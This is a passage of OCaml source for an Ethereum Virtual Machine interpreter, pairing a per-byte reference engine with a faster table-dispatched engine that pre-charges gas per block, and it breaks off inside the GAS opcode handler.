let as_offset (v : U.t) : int =
  match U.to_int_opt v with
  | Some i when i <= 0x3FFFFFFF -> i
  | _ -> raise (Evm_error "offset out of range")

let addr_mask = U.sub (U.shift_left U.one 160) U.one
let to_addr v = U.logand v addr_mask

(* ------------------------------------------------------------------ *)
(* Bytewise reference engine: the original per-byte interpreter, kept  *)
(* as the differential baseline. Decodes the opcode from the raw code  *)
(* string at every step, re-reads PUSH immediates, rebuilds the        *)
(* JUMPDEST set per call frame, and charges gas per instruction.       *)
(* ------------------------------------------------------------------ *)

let rec execute_bytewise (ctx : context) ~(depth : int) ~(self : U.t)
    ~(code_addr : U.t) ~(caller : U.t) ~(callvalue : U.t)
    ~(calldata : string) ~(static : bool) : outcome =
  let code = State.code ctx.state code_addr in
  let n = String.length code in
  let valid_dests = Bytecode.jumpdests code in
  let stack : U.t list ref = ref [] in
  let mem = Memory.create () in
  let returndata = ref "" in
  let push v = stack := v :: !stack in
  let pop () =
    match !stack with
    | [] -> raise (Evm_error "stack underflow")
    | v :: rest ->
        stack := rest;
        v
  in
  let pop2 () =
    let a = pop () in
    let b = pop () in
    (a, b)
  in
  let pop3 () =
    let a = pop () in
    let b = pop () in
    let c = pop () in
    (a, b, c)
  in
  let pc = ref 0 in
  let running = ref true in
  let result = ref (Returned "") in
  while !running do
    if !pc >= n then begin
      running := false;
      result := Returned ""
    end
    else begin
      ctx.steps <- ctx.steps + 1;
      if ctx.steps > ctx.max_steps then raise (Evm_error "step limit");
      let byte = Char.code code.[!pc] in
      let op =
        match Opcode.of_byte byte with
        | Some op -> op
        | None -> Opcode.INVALID
      in
      if ctx.trace_len < ctx.max_trace then begin
        ctx.trace :=
          { t_depth = depth; t_addr = self; t_pc = !pc; t_op = op }
          :: !(ctx.trace);
        ctx.trace_len <- ctx.trace_len + 1
      end;
      charge ctx (Opcode.base_gas op);
      let next_pc = ref (!pc + 1 + Opcode.immediate_size op) in
      (match op with
      | STOP ->
          running := false;
          result := Returned ""
      | ADD -> let a, b = pop2 () in push (U.add a b)
      | MUL -> let a, b = pop2 () in push (U.mul a b)
      | SUB -> let a, b = pop2 () in push (U.sub a b)
      | DIV -> let a, b = pop2 () in push (U.div a b)
      | SDIV -> let a, b = pop2 () in push (U.sdiv a b)
      | MOD -> let a, b = pop2 () in push (U.rem a b)
      | SMOD -> let a, b = pop2 () in push (U.smod a b)
      | ADDMOD -> let a, b, m = pop3 () in push (U.addmod a b m)
      | MULMOD -> let a, b, m = pop3 () in push (U.mulmod a b m)
      | EXP -> let a, b = pop2 () in push (U.exp a b)
      | SIGNEXTEND -> let b, x = pop2 () in push (U.signextend b x)
      | LT -> let a, b = pop2 () in push (U.of_bool (U.lt a b))
      | GT -> let a, b = pop2 () in push (U.of_bool (U.gt a b))
      | SLT -> let a, b = pop2 () in push (U.of_bool (U.slt a b))
      | SGT -> let a, b = pop2 () in push (U.of_bool (U.sgt a b))
      | EQ -> let a, b = pop2 () in push (U.of_bool (U.equal a b))
      | ISZERO -> push (U.of_bool (U.is_zero (pop ())))
      | AND -> let a, b = pop2 () in push (U.logand a b)
      | OR -> let a, b = pop2 () in push (U.logor a b)
      | XOR -> let a, b = pop2 () in push (U.logxor a b)
      | NOT -> push (U.lognot (pop ()))
      | BYTE -> let i, x = pop2 () in push (U.byte i x)
      | SHL ->
          let s, v = pop2 () in
          push (if U.fits_int s then U.shift_left v (U.to_int s) else U.zero)
      | SHR ->
          let s, v = pop2 () in
          push (if U.fits_int s then U.shift_right v (U.to_int s) else U.zero)
      | SAR ->
          let s, v = pop2 () in
          push
            (if U.fits_int s then U.shift_right_arith v (U.to_int s)
             else U.shift_right_arith v 256)
      | SHA3 ->
          let off, len = pop2 () in
          let data = Memory.load_bytes mem (as_offset off) (as_offset len) in
          push (Ethainter_crypto.Keccak.hash_word data)
      | ADDRESS -> push self
      | BALANCE -> push (State.balance ctx.state (to_addr (pop ())))
      | ORIGIN -> push ctx.origin
      | CALLER -> push caller
      | CALLVALUE -> push callvalue
      | CALLDATALOAD ->
          let off = pop () in
          let v =
            match U.to_int_opt off with
            | None -> U.zero
            | Some o ->
                let len = String.length calldata in
                if o >= len then U.zero
                else
                  let avail = min 32 (len - o) in
                  let s = String.sub calldata o avail in
                  U.of_bytes (s ^ String.make (32 - avail) '\000')
          in
          push v
      | CALLDATASIZE -> push (U.of_int (String.length calldata))
      | CALLDATACOPY ->
          let dst, src, len = pop3 () in
          let dst = as_offset dst and len = as_offset len in
          let srclen = String.length calldata in
          let src = match U.to_int_opt src with Some s -> s | None -> srclen in
          let chunk =
            if src >= srclen then String.make len '\000'
            else
              let avail = min len (srclen - src) in
              String.sub calldata src avail ^ String.make (len - avail) '\000'
          in
          Memory.store_bytes mem dst chunk
      | CODESIZE -> push (U.of_int n)
      | CODECOPY ->
          let dst, src, len = pop3 () in
          let dst = as_offset dst and len = as_offset len in
          let src = match U.to_int_opt src with Some s -> s | None -> n in
          let chunk =
            if src >= n then String.make len '\000'
            else
              let avail = min len (n - src) in
              String.sub code src avail ^ String.make (len - avail) '\000'
          in
          Memory.store_bytes mem dst chunk
      | GASPRICE -> push ctx.gas_price
      | EXTCODESIZE ->
          push (U.of_int (String.length (State.code ctx.state (to_addr (pop ())))))
      | EXTCODECOPY ->
          let a = pop () in
          let dst, src, len = pop3 () in
          let ext = State.code ctx.state (to_addr a) in
          let extn = String.length ext in
          let dst = as_offset dst and len = as_offset len in
          let src = match U.to_int_opt src with Some s -> s | None -> extn in
          let chunk =
            if src >= extn then String.make len '\000'
            else
              let avail = min len (extn - src) in
              String.sub ext src avail ^ String.make (len - avail) '\000'
          in
          Memory.store_bytes mem dst chunk
      | RETURNDATASIZE -> push (U.of_int (String.length !returndata))
      | RETURNDATACOPY ->
          let dst, src, len = pop3 () in
          let dst = as_offset dst and len = as_offset len in
          let src = as_offset src in
          let rl = String.length !returndata in
          if src + len > rl then raise (Evm_error "returndatacopy OOB");
          Memory.store_bytes mem dst (String.sub !returndata src len)
      | EXTCODEHASH ->
          let a = to_addr (pop ()) in
          let c = State.code ctx.state a in
          if (not (State.exists ctx.state a)) && String.length c = 0 then
            push U.zero
          else push (Ethainter_crypto.Keccak.hash_word c)
      | BLOCKHASH ->
          let bn = pop () in
          push (Ethainter_crypto.Keccak.hash_word (U.to_bytes bn))
      | COINBASE -> push U.zero
      | TIMESTAMP -> push ctx.timestamp
      | NUMBER -> push ctx.block_number
      | DIFFICULTY -> push U.zero
      | GASLIMIT -> push (U.of_int 10_000_000)
      | CHAINID -> push ctx.chain_id
      | SELFBALANCE -> push (State.balance ctx.state self)
      | POP -> ignore (pop ())
      | MLOAD -> push (Memory.load_word mem (as_offset (pop ())))
      | MSTORE ->
          let off, v = pop2 () in
          Memory.store_word mem (as_offset off) v
      | MSTORE8 ->
          let off, v = pop2 () in
          Memory.store_byte mem (as_offset off) (U.to_int (U.logand v (U.of_int 0xff)))
      | SLOAD -> push (State.sload ctx.state self (pop ()))
      | SSTORE ->
          if static then raise (Evm_error "SSTORE in static context");
          let k, v = pop2 () in
          State.sstore ctx.state self k v;
          ctx.effects := E_sstore { es_addr = self; es_slot = k } :: !(ctx.effects)
      | JUMP ->
          let dest = pop () in
          let d = match U.to_int_opt dest with
            | Some d -> d
            | None -> raise (Evm_error "bad jump target") in
          if not (Hashtbl.mem valid_dests d) then
            raise (Evm_error "jump to non-JUMPDEST");
          next_pc := d
      | JUMPI ->
          let dest, cond = pop2 () in
          if U.to_bool cond then begin
            let d = match U.to_int_opt dest with
              | Some d -> d
              | None -> raise (Evm_error "bad jump target") in
            if not (Hashtbl.mem valid_dests d) then
              raise (Evm_error "jump to non-JUMPDEST");
            next_pc := d
          end
      | PC -> push (U.of_int !pc)
      | MSIZE -> push (U.of_int (Memory.size mem))
      | GAS -> push (U.of_int (max 0 ctx.gas))
      | JUMPDEST -> ()
      | PUSH k ->
          let avail = min k (n - !pc - 1) in
          let data =
            (if avail > 0 then String.sub code (!pc + 1) avail else "")
            ^ String.make (k - avail) '\000'
          in
          push (U.of_bytes data)
      | DUP k ->
          let rec nth l i =
            match (l, i) with
            | x :: _, 1 -> x
            | _ :: r, i -> nth r (i - 1)
            | [], _ -> raise (Evm_error "stack underflow")
          in
          push (nth !stack k)
      | SWAP k ->
          let rec split l i acc =
            match (l, i) with
            | x :: r, 0 -> (List.rev acc, x, r)
            | x :: r, i -> split r (i - 1) (x :: acc)
            | [], _ -> raise (Evm_error "stack underflow")
          in
          (match !stack with
          | top :: rest ->
              let before, v, after = split rest (k - 1) [] in
              stack := (v :: before) @ (top :: after)
          | [] -> raise (Evm_error "stack underflow"))
      | LOG k ->
          if static then raise (Evm_error "LOG in static context");
          let off, len = pop2 () in
          let topics = List.init k (fun _ -> pop ()) in
          let data =
            Memory.load_bytes mem (as_offset off) (as_offset len)
          in
          ctx.logs := { log_addr = self; topics; data } :: !(ctx.logs)
      | CREATE | CREATE2 ->
          if static then raise (Evm_error "CREATE in static context");
          let value = pop () in
          let off, len = pop2 () in
          let _salt = if op = Opcode.CREATE2 then Some (pop ()) else None in
          let initcode = Memory.load_bytes mem (as_offset off) (as_offset len) in
          if depth >= max_call_depth then push U.zero
          else begin
            let creator_acct = State.account ctx.state self in
            let new_addr =
              State.contract_address ~creator:self ~nonce:creator_acct.nonce
            in
            State.bump_nonce ctx.state self;
            let snap = State.snapshot ctx.state in
            (match State.transfer ctx.state ~src:self ~dst:new_addr ~value with
            | Error _ -> push U.zero
            | Ok () -> (
                State.set_code ctx.state new_addr initcode;
                match
                  try
                    execute_bytewise ctx ~depth:(depth + 1) ~self:new_addr
                      ~code_addr:new_addr ~caller:self ~callvalue:value
                      ~calldata:"" ~static:false
                  with Evm_error msg -> Failed msg
                with
                | Returned runtime ->
                    State.set_code ctx.state new_addr runtime;
                    ctx.effects := E_create new_addr :: !(ctx.effects);
                    returndata := "";
                    push new_addr
                | Reverted data ->
                    State.restore ctx.state snap;
                    returndata := data;
                    push U.zero
                | Failed _ ->
                    State.restore ctx.state snap;
                    returndata := "";
                    push U.zero))
          end
      | CALL | CALLCODE | DELEGATECALL | STATICCALL ->
          let _gas = pop () in
          let target = to_addr (pop ()) in
          let value =
            match op with
            | Opcode.CALL | Opcode.CALLCODE -> pop ()
            | _ -> U.zero
          in
          let in_off, in_len = pop2 () in
          let out_off, out_len = pop2 () in
          let args = Memory.load_bytes mem (as_offset in_off) (as_offset in_len) in
          if static && op = Opcode.CALL && not (U.is_zero value) then
            raise (Evm_error "value CALL in static context");
          if depth >= max_call_depth then push U.zero
          else begin
            let snap = State.snapshot ctx.state in
            let sub_self, sub_code, sub_caller, sub_value, sub_static =
              match op with
              | Opcode.CALL -> (target, target, self, value, static)
              | Opcode.CALLCODE -> (self, target, self, value, static)
              | Opcode.DELEGATECALL -> (self, target, caller, callvalue, static)
              | Opcode.STATICCALL -> (target, target, self, U.zero, true)
              | _ -> assert false
            in
            let transfer_res =
              if op = Opcode.CALL && not (U.is_zero value) then
                State.transfer ctx.state ~src:self ~dst:target ~value
              else Ok ()
            in
            match transfer_res with
            | Error _ -> push U.zero
            | Ok () ->
                let o =
                  if String.length (State.code ctx.state sub_code) = 0 then
                    (* calling an EOA: succeeds, returns nothing *)
                    Returned ""
                  else
                    (* a failing callee is contained: the caller sees a
                       0 result, it does not abort *)
                    try
                      execute_bytewise ctx ~depth:(depth + 1) ~self:sub_self
                        ~code_addr:sub_code ~caller:sub_caller
                        ~callvalue:sub_value ~calldata:args ~static:sub_static
                    with Evm_error msg -> Failed msg
                in
                (match o with
                | Returned data ->
                    returndata := data;
                    (* NB: only min(out_len, |data|) bytes are written;
                       this is exactly the staticcall output-buffer
                       subtlety of §3.5. *)
                    let wlen = min (as_offset out_len) (String.length data) in
                    Memory.store_bytes mem (as_offset out_off)
                      (String.sub data 0 wlen);
                    push U.one
                | Reverted data ->
                    State.restore ctx.state snap;
                    returndata := data;
                    let wlen = min (as_offset out_len) (String.length data) in
                    Memory.store_bytes mem (as_offset out_off)
                      (String.sub data 0 wlen);
                    push U.zero
                | Failed _ ->
                    State.restore ctx.state snap;
                    returndata := "";
                    push U.zero)
          end
      | RETURN ->
          let off, len = pop2 () in
          running := false;
          result := Returned (Memory.load_bytes mem (as_offset off) (as_offset len))
      | REVERT ->
          let off, len = pop2 () in
          running := false;
          result := Reverted (Memory.load_bytes mem (as_offset off) (as_offset len))
      | INVALID -> raise (Evm_error "invalid opcode")
      | SELFDESTRUCT ->
          if static then raise (Evm_error "SELFDESTRUCT in static context");
          let beneficiary = to_addr (pop ()) in
          State.selfdestruct ctx.state ~victim:self ~beneficiary;
          ctx.effects := E_selfdestruct self :: !(ctx.effects);
          running := false;
          result := Returned "");
      if !running then pc := !next_pc
    end
  done;
  !result

(* ------------------------------------------------------------------ *)
(* Decoded engine: threaded dispatch over Program.t. The inner loop    *)
(* indexes a flat 256-entry handler table with the program's           *)
(* pre-extracted opcode byte — one byte load and one indirect call per *)
(* step, no variant re-dispatch. The operand stack is an array of      *)
(* frame-owned Uint256 scratch words: arithmetic runs through the      *)
(* alias-safe [_into] operations writing into the popped operand's     *)
(* slot, SWAP swaps slot pointers, DUP/PUSH blit — zero heap           *)
(* allocation per arithmetic/stack instruction. Values crossing the    *)
(* frame boundary are copied: copy-in when a shared word enters a slot *)
(* (SLOAD results, environment words, immediates), copy-out when a     *)
(* slot value escapes into long-lived structures (SSTORE keys/values,  *)
(* LOG topics). Per-block gas pre-charge with exact tail unwind on     *)
(* mid-block exit is unchanged from the match-based engine.            *)
(* ------------------------------------------------------------------ *)

(* Per-call frame: everything a handler needs, so the handler table
   can be built once per process (handlers close over nothing
   call-specific) instead of once per call or per program. *)
type frame = {
  f_ctx : context;
  f_depth : int;
  f_self : U.t;
  f_caller : U.t;
  f_callvalue : U.t;
  f_calldata : string;
  f_static : bool;
  f_p : Program.t;
  f_mem : Memory.t;
  mutable f_returndata : string;
  mutable f_stk : U.t array;  (** frame-owned scratch words *)
  mutable f_sp : int;
  mutable f_i : int;          (** current instruction index *)
  mutable f_next_bi : int;
  mutable f_running : bool;
  mutable f_result : outcome;
  mutable f_precharged : bool;
  mutable f_refunded : bool;
  mutable f_base : int;
      (** packed (frame id lsl 43) lor (depth lsl 32) for trace
          entries; -1 until the frame's first recorded entry assigns
          its id *)
}

let[@inline] need (f : frame) k =
  if f.f_sp < k then raise (Evm_error "stack underflow")

(* The slot holding the d-th value from the top (d = 1 is the top).
   Slots keep their buffer after a pop, so a handler reads its popped
   operands in place and writes the result into the deepest one. *)
let[@inline] at (f : frame) d = Array.unsafe_get f.f_stk (f.f_sp - d)

let[@inline] fpop (f : frame) =
  need f 1;
  f.f_sp <- f.f_sp - 1;
  Array.unsafe_get f.f_stk f.f_sp

(* Pushes are capacity-unchecked: each block's maximum stack growth is
   ensured once at block entry (same discipline as the match-based
   engine). *)
let[@inline] push_slot (f : frame) =
  let s = Array.unsafe_get f.f_stk f.f_sp in
  f.f_sp <- f.f_sp + 1;
  s

let[@inline] fpush_blit f v = U.blit v (push_slot f)
let[@inline] fpush_int f x = U.set_int (push_slot f) x
let[@inline] fpush_bool f b = U.set_bool (push_slot f) b
let[@inline] fpush_zero f = U.set_zero (push_slot f)

(* Growing the slot array keeps every existing buffer (they are all
   owned, including the ones above sp) and allocates fresh owned words
   for the new slots. *)
let ensure_frame_stack (f : frame) extra =
  let need = f.f_sp + extra in
  let len = Array.length f.f_stk in
  if need > len then begin
    let cap = ref (2 * len) in
    while !cap < need do
      cap := 2 * !cap
    done;
    let a =
      Array.init !cap (fun j ->
          if j < len then Array.unsafe_get f.f_stk j else U.create ())
    in
    f.f_stk <- a
  end

(* Slot-array pool, per domain. Call frames are strictly LIFO within
   a domain, so a released array is immediately reusable by the next
   frame; stale slot contents are never observed because sp starts at
   0 and every push writes its slot before any read. Bounded by the
   maximum call depth (1024). *)
let slab_pool : U.t array list ref Domain.DLS.key =
  Domain.DLS.new_key (fun () -> ref [])

let get_slab () =
  let pool = Domain.DLS.get slab_pool in
  match !pool with
  | [] -> Array.init 64 (fun _ -> U.create ())
  | s :: rest ->
      pool := rest;
      s

let put_slab (s : U.t array) =
  let pool = Domain.DLS.get slab_pool in
  pool := s :: !pool

(* One process-wide handler table, indexed by the canonical opcode
   byte ([Program.t.ops]). Entries are patched in below, after the
   call-family handlers (which recurse into [execute_decoded]) are
   defined; unmapped bytes keep this INVALID behaviour. *)
let handler_table : (frame -> Bytecode.instr -> unit) array =
  Array.make 256 (fun _ _ -> raise (Evm_error "invalid opcode"))

let execute_decoded (ctx : context) ~(depth : int) ~(self : U.t)
    ~(code_addr : U.t) ~(caller : U.t) ~(callvalue : U.t)
    ~(calldata : string) ~(static : bool) : outcome =
  let p = State.program ctx.state code_addr in
  let instrs = p.Program.instrs in
  let ops = p.Program.ops in
  let gas_rest = p.Program.gas_rest in
  let blocks = p.Program.blocks in
  let nblocks = Array.length blocks in
  let f =
    { f_ctx = ctx; f_depth = depth; f_self = self; f_caller = caller;
      f_callvalue = callvalue; f_calldata = calldata; f_static = static;
      f_p = p; f_mem = Memory.create (); f_returndata = "";
      f_stk = get_slab (); f_sp = 0; f_i = 0;
      f_next_bi = 0; f_running = nblocks > 0; f_result = Returned "";
      f_precharged = false; f_refunded = false; f_base = -1 }
  in
  (* the array may have been swapped for a grown one by
     [ensure_frame_stack]; whichever is current goes back to the pool,
     on normal return and on [Evm_error] alike *)
  Fun.protect ~finally:(fun () -> put_slab f.f_stk) @@ fun () ->
  let bi = ref 0 in
  while f.f_running do
    let b = Array.unsafe_get blocks !bi in
    (* Fast path: the whole block's static gas fits — charge it once.
       Gas can then never run out inside the block, and any abnormal
       mid-block exit (stack underflow, bad jump, step limit, INVALID)
       refunds the unexecuted tail so observable gas matches the
       per-instruction engine exactly. *)
    let precharged = ctx.gas >= b.Program.bb_gas in
    if precharged then ctx.gas <- ctx.gas - b.Program.bb_gas;
    f.f_precharged <- precharged;
    ensure_frame_stack f b.Program.bb_grow;
    let i_end = b.Program.bb_start + b.Program.bb_len in
    f.f_next_bi <- !bi + 1;
    f.f_i <- b.Program.bb_start;
    f.f_refunded <- false;
    (try
       while f.f_i < i_end do
         let i = f.f_i in
         let ins = Array.unsafe_get instrs i in
         ctx.steps <- ctx.steps + 1;
         if ctx.steps > ctx.max_steps then begin
           (* the reference engine checks the step limit before
              charging the instruction: unwind its cost too *)
           if precharged then begin
             ctx.gas <-
               ctx.gas + Array.unsafe_get gas_rest i
               + Opcode.base_gas ins.Bytecode.op;
             f.f_refunded <- true
           end;
           raise (Evm_error "step limit")
         end;
         let ob = Char.code (Bytes.unsafe_get ops i) in
         let k = ctx.trace_len in
         if k < ctx.max_trace then begin
           if k >= Array.length ctx.tmeta then grow_trace ctx;
           if f.f_base < 0 then begin
             (* first recorded entry of this frame: assign its id and
                record the executing address once *)
             let fid = ctx.nframes in
             ctx.nframes <- fid + 1;
             if fid >= Array.length ctx.faddr then grow_faddr ctx;
             Array.unsafe_set ctx.faddr fid self;
             f.f_base <- (fid lsl 43) lor ((depth land 0x7FF) lsl 32)
           end;
           Array.unsafe_set ctx.tmeta k
             (f.f_base lor (ob lsl 24) lor (ins.Bytecode.pc land 0xFFFFFF));
           ctx.trace_len <- k + 1
         end;
         if not precharged then charge ctx (Opcode.base_gas ins.Bytecode.op);
         (Array.unsafe_get handler_table ob) f ins;
         f.f_i <- f.f_i + 1
       done
     with Evm_error _ as e ->
       (* abnormal mid-block exit at instruction [f_i]: give back the
          pre-charged gas for the instructions that never ran *)
       if precharged && not f.f_refunded then
         ctx.gas <- ctx.gas + Array.unsafe_get gas_rest f.f_i;
       raise e);
    if f.f_running then begin
      bi := f.f_next_bi;
      if !bi >= nblocks then begin
        (* fell off the end of the code *)
        f.f_running <- false;
        f.f_result <- Returned ""
      end
    end
  done;
  f.f_result

(* ---- handlers ----
   Binary ops read the top slot [a] and the second slot [b], write the
   result into [b]'s buffer (alias-safe per the Uint256 scratch-op
   contract) and drop sp by one. Rare multi-precision ops (div, exp,
   addmod...) go through the pure API and blit. *)

let h_stop f _ =
  f.f_running <- false;
  f.f_result <- Returned ""

let h_add f _ =
  need f 2;
  let a = at f 1 and b = at f 2 in
  U.add_into b a b;
  f.f_sp <- f.f_sp - 1

let h_mul f _ =
  need f 2;
  let a = at f 1 and b = at f 2 in
  U.mul_into b a b;
  f.f_sp <- f.f_sp - 1

let h_sub f _ =
  need f 2;
  let a = at f 1 and b = at f 2 in
  U.sub_into b a b;
  f.f_sp <- f.f_sp - 1

let h_div f _ =
  need f 2;
  let a = at f 1 and b = at f 2 in
  U.blit (U.div a b) b;
  f.f_sp <- f.f_sp - 1

let h_sdiv f _ =
  need f 2;
  let a = at f 1 and b = at f 2 in
  U.blit (U.sdiv a b) b;
  f.f_sp <- f.f_sp - 1

let h_mod f _ =
  need f 2;
  let a = at f 1 and b = at f 2 in
  U.blit (U.rem a b) b;
  f.f_sp <- f.f_sp - 1

let h_smod f _ =
  need f 2;
  let a = at f 1 and b = at f 2 in
  U.blit (U.smod a b) b;
  f.f_sp <- f.f_sp - 1

let h_addmod f _ =
  need f 3;
  let a = at f 1 and b = at f 2 and m = at f 3 in
  U.blit (U.addmod a b m) m;
  f.f_sp <- f.f_sp - 2

let h_mulmod f _ =
  need f 3;
  let a = at f 1 and b = at f 2 and m = at f 3 in
  U.blit (U.mulmod a b m) m;
  f.f_sp <- f.f_sp - 2

let h_exp f _ =
  need f 2;
  let a = at f 1 and b = at f 2 in
  U.blit (U.exp a b) b;
  f.f_sp <- f.f_sp - 1

let h_signextend f _ =
  need f 2;
  let b = at f 1 and x = at f 2 in
  U.blit (U.signextend b x) x;
  f.f_sp <- f.f_sp - 1

let h_lt f _ =
  need f 2;
  let a = at f 1 and b = at f 2 in
  let r = U.lt a b in
  U.set_bool b r;
  f.f_sp <- f.f_sp - 1

let h_gt f _ =
  need f 2;
  let a = at f 1 and b = at f 2 in
  let r = U.gt a b in
  U.set_bool b r;
  f.f_sp <- f.f_sp - 1

let h_slt f _ =
  need f 2;
  let a = at f 1 and b = at f 2 in
  let r = U.slt a b in
  U.set_bool b r;
  f.f_sp <- f.f_sp - 1

let h_sgt f _ =
  need f 2;
  let a = at f 1 and b = at f 2 in
  let r = U.sgt a b in
  U.set_bool b r;
  f.f_sp <- f.f_sp - 1

let h_eq f _ =
  need f 2;
  let a = at f 1 and b = at f 2 in
  let r = U.equal a b in
  U.set_bool b r;
  f.f_sp <- f.f_sp - 1

let h_iszero f _ =
  need f 1;
  let a = at f 1 in
  let r = U.is_zero a in
  U.set_bool a r

let h_and f _ =
  need f 2;
  let a = at f 1 and b = at f 2 in
  U.logand_into b a b;
  f.f_sp <- f.f_sp - 1

let h_or f _ =
  need f 2;
  let a = at f 1 and b = at f 2 in
  U.logor_into b a b;
  f.f_sp <- f.f_sp - 1

let h_xor f _ =
  need f 2;
  let a = at f 1 and b = at f 2 in
  U.logxor_into b a b;
  f.f_sp <- f.f_sp - 1

let h_not f _ =
  need f 1;
  let a = at f 1 in
  U.lognot_into a a

let h_byte f _ =
  need f 2;
  let i = at f 1 and x = at f 2 in
  U.blit (U.byte i x) x;
  f.f_sp <- f.f_sp - 1

let h_shl f _ =
  need f 2;
  let s = at f 1 and v = at f 2 in
  if U.fits_int s then U.shift_left_into v v (U.to_int s) else U.set_zero v;
  f.f_sp <- f.f_sp - 1

let h_shr f _ =
  need f 2;
  let s = at f 1 and v = at f 2 in
  if U.fits_int s then U.shift_right_into v v (U.to_int s) else U.set_zero v;
  f.f_sp <- f.f_sp - 1

let h_sar f _ =
  need f 2;
  let s = at f 1 and v = at f 2 in
  if U.fits_int s then U.shift_right_arith_into v v (U.to_int s)
  else U.shift_right_arith_into v v 256;
  f.f_sp <- f.f_sp - 1

let h_sha3 f _ =
  need f 2;
  let off = at f 1 and len = at f 2 in
  f.f_sp <- f.f_sp - 2;
  let data = Memory.load_bytes f.f_mem (as_offset off) (as_offset len) in
  fpush_blit f (Ethainter_crypto.Keccak.hash_word data)

let h_address f _ = fpush_blit f f.f_self

let h_balance f _ =
  need f 1;
  let a = at f 1 in
  U.blit (State.balance f.f_ctx.state (to_addr a)) a

let h_origin f _ = fpush_blit f f.f_ctx.origin
let h_caller f _ = fpush_blit f f.f_caller
let h_callvalue f _ = fpush_blit f f.f_callvalue

let h_calldataload f _ =
  need f 1;
  let off = at f 1 in
  (match U.to_int_opt off with
  | None -> U.set_zero off
  | Some o -> U.load_be_padded off f.f_calldata o)

let h_calldatasize f _ = fpush_int f (String.length f.f_calldata)

let h_calldatacopy f _ =
  need f 3;
  let dst = at f 1 and src = at f 2 and len = at f 3 in
  f.f_sp <- f.f_sp - 3;
  let dst = as_offset dst and len = as_offset len in
  let srclen = String.length f.f_calldata in
  let src = match U.to_int_opt src with Some s -> s | None -> srclen in
  let chunk =
    if src >= srclen then String.make len '\000'
    else
      let avail = min len (srclen - src) in
      String.sub f.f_calldata src avail ^ String.make (len - avail) '\000'
  in
  Memory.store_bytes f.f_mem dst chunk

let h_codesize f _ = fpush_int f (String.length f.f_p.Program.code)

let h_codecopy f _ =
  need f 3;
  let dst = at f 1 and src = at f 2 and len = at f 3 in
  f.f_sp <- f.f_sp - 3;
  let code = f.f_p.Program.code in
  let n = String.length code in
  let dst = as_offset dst and len = as_offset len in
  let src = match U.to_int_opt src with Some s -> s | None -> n in
  let chunk =
    if src >= n then String.make len '\000'
    else
      let avail = min len (n - src) in
      String.sub code src avail ^ String.make (len - avail) '\000'
  in
  Memory.store_bytes f.f_mem dst chunk

let h_gasprice f _ = fpush_blit f f.f_ctx.gas_price

let h_extcodesize f _ =
  need f 1;
  let a = at f 1 in
  let n = String.length (State.code f.f_ctx.state (to_addr a)) in
  U.set_int a n

let h_extcodecopy f _ =
  need f 4;
  let a = at f 1 and dst = at f 2 and src = at f 3 and len = at f 4 in
  f.f_sp <- f.f_sp - 4;
  let ext = State.code f.f_ctx.state (to_addr a) in
  let extn = String.length ext in
  let dst = as_offset dst and len = as_offset len in
  let src = match U.to_int_opt src with Some s -> s | None -> extn in
  let chunk =
    if src >= extn then String.make len '\000'
    else
      let avail = min len (extn - src) in
      String.sub ext src avail ^ String.make (len - avail) '\000'
  in
  Memory.store_bytes f.f_mem dst chunk

let h_returndatasize f _ = fpush_int f (String.length f.f_returndata)

let h_returndatacopy f _ =
  need f 3;
  let dst = at f 1 and src = at f 2 and len = at f 3 in
  f.f_sp <- f.f_sp - 3;
  let dst = as_offset dst and len = as_offset len in
  let src = as_offset src in
  let rl = String.length f.f_returndata in
  if src + len > rl then raise (Evm_error "returndatacopy OOB");
  Memory.store_bytes f.f_mem dst (String.sub f.f_returndata src len)

let h_extcodehash f _ =
  need f 1;
  let slot = at f 1 in
  let a = to_addr slot in
  let c = State.code f.f_ctx.state a in
  if (not (State.exists f.f_ctx.state a)) && String.length c = 0 then
    U.set_zero slot
  else U.blit (Ethainter_crypto.Keccak.hash_word c) slot

let h_blockhash f _ =
  need f 1;
  let bn = at f 1 in
  U.blit (Ethainter_crypto.Keccak.hash_word (U.to_bytes bn)) bn

let h_coinbase f _ = fpush_zero f
let h_timestamp f _ = fpush_blit f f.f_ctx.timestamp
let h_number f _ = fpush_blit f f.f_ctx.block_number
let h_difficulty f _ = fpush_zero f
let h_gaslimit f _ = fpush_int f 10_000_000
let h_chainid f _ = fpush_blit f f.f_ctx.chain_id
let h_selfbalance f _ = fpush_blit f (State.balance f.f_ctx.state f.f_self)

let h_pop f _ =
  need f 1;
  f.f_sp <- f.f_sp - 1

let h_mload f _ =
  need f 1;
  let s = at f 1 in
  let o = as_offset s in
  Memory.load_word_into f.f_mem o s

let h_mstore f _ =
  need f 2;
  let off = at f 1 and v = at f 2 in
  f.f_sp <- f.f_sp - 2;
  Memory.store_word_from f.f_mem (as_offset off) v

let h_mstore8 f _ =
  need f 2;
  let off = at f 1 and v = at f 2 in
  f.f_sp <- f.f_sp - 2;
  Memory.store_byte f.f_mem (as_offset off) (U.to_int (U.byte (U.of_int 31) v))

let h_sload f _ =
  need f 1;
  let s = at f 1 in
  U.blit (State.sload f.f_ctx.state f.f_self s) s

let h_sstore f _ =
  if f.f_static then raise (Evm_error "SSTORE in static context");
  need f 2;
  (* the slot buffers get reused; the stored key/value escape this
     frame, so they are copied out (the effect shares the key copy) *)
  let k = U.copy (at f 1) and v = U.copy (at f 2) in
  f.f_sp <- f.f_sp - 2;
  State.sstore f.f_ctx.state f.f_self k v;
  f.f_ctx.effects :=
    E_sstore { es_addr = f.f_self; es_slot = k } :: !(f.f_ctx.effects)

let h_jump f _ =
  let dest = fpop f in
  let d =
    match U.to_int_opt dest with
    | Some d -> d
    | None -> raise (Evm_error "bad jump target")
  in
  if not (Program.is_jumpdest f.f_p d) then
    raise (Evm_error "jump to non-JUMPDEST");
  f.f_next_bi <- Array.unsafe_get f.f_p.Program.block_at_pc d

let h_jumpi f _ =
  need f 2;
  let dest = at f 1 and cond = at f 2 in
  f.f_sp <- f.f_sp - 2;
  if U.to_bool cond then begin
    let d =
      match U.to_int_opt dest with
      | Some d -> d
      | None -> raise (Evm_error "bad jump target")
    in
    if not (Program.is_jumpdest f.f_p d) then
      raise (Evm_error "jump to non-JUMPDEST");
    f.f_next_bi <- Array.unsafe_get f.f_p.Program.block_at_pc d
  end

let h_pc f (ins : Bytecode.instr) = fpush_int f ins.Bytecode.pc
let h_msize f _ = fpush_int f (Memory.size f.f_mem)

let h_gas f _ =
  (* the block was pre-charged in one go: add back the static cost of
     the instructions after this one so the observable value matches
     per-instruction charging *)
  let g =
    if f.f_precharged then
      f.f_ctx.gas + Array.unsafe_get f.f_p.Program.gas_rest f.f_i
    else f.f_ctx.gas
  in
